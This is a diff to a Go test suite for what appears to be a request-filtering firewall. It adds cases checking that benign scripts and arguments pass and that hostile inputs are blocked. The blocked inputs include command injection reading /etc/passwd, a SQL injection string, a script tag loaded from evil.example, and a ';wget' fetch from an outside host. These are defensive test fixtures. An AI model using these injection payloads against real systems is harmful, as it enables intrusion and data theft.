@@ -101,6 +101,8 @@ COMMIT;`,
 	"embed":               "<p>Talk:</p>\n<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/abc\" title=\"Talk\" allowfullscreen></iframe>",
 	"ini":                 "[mysqld]\ndatadir = /var/lib/mysql\nlog_error = /var/log/mysql/error.log\nsql_mode = \"STRICT_TRANS_TABLES\"\n; skip-networking\n",
 	"env":                 "DB_URL=postgres://app:s3cret@db:5432/app?sslmode=disable\nPATH=/usr/local/bin:$PATH\nNODE_OPTIONS=\"--max-old-space-size=4096\"\n",
+	"apostrophes":         "It's great; I'd buy it again & who'd not, but the cable's too short | I'd say",
+	"message":             "If %1 is selected, the file %2 is not used",
 	"list of words":       "casino\nviagra\n<script\nunion select\nbuy now!!!",
 	"lua":                 "redis.call('set', KEYS[1], ARGV[1])\nlocal n = tonumber(redis.call('incr', KEYS[2]))\nif n > 10 then return redis.error_reply('limit') end\nreturn n",
 	"powershell":          "Get-ChildItem C:\\Temp -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length | Select-Object -First 5\nGet-Service | Where-Object Status -eq 'Stopped' | Out-File report.txt",
@@ -175,3 +177,37 @@ func TestEditors(t *testing.T) {
 }
 
 var escapedText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace
+
+// TestStoredScripts puts scripts for pages where they are stored, and attacks
+// under the same type.
+func TestStoredScripts(t *testing.T) {
+	e := New(Options{})
+	script := "/* widgets */" + strings.Repeat("function a(b){return b||!isFinite(b)||Math.floor(b)!==b||b<0}", 20) +
+		"const n=[$[0],$[1]||$[0]];x={attach:ws,resize:ws}[e]||ps;m(`missing`,`set`,`use`);"
+	f := func(kind, body string, want Decision) {
+		t.Helper()
+		r := request{method: "PUT", target: "/assets/app.min.js", fields: []string{"Content-Type", kind}, body: body}
+		expect(t, e, &r, want, kind+" "+body[:min(len(body), 40)])
+	}
+	f("text/javascript; charset=utf-8", script, Pass)
+	f("application/javascript", script, Pass)
+	f("application/javascript", ";cat /etc/passwd", Block)
+	f("application/javascript", `{"id":"1' or '1'='1"}`, Block)
+	f("application/javascript", script+"<script src=//evil.example></script>", Block)
+}
+
+// TestArguments sends command lines and settings in strings of JSON.
+func TestArguments(t *testing.T) {
+	e := New(Options{})
+	f := func(arg string, want Decision) {
+		t.Helper()
+		body, _ := json.Marshal(map[string]any{"args": []string{arg}})
+		r := post("application/json", string(body))
+		expect(t, e, &r, want, arg)
+	}
+	f("--config=/etc/adapter/config.yaml", Pass)
+	f("LANG=de&TZ=UTC", Pass)
+	f("file=/etc/passwd", Block)
+	f("id=1' or '1'='1", Block)
+	f("cmd=;wget http://h.example/x", Block)
+}
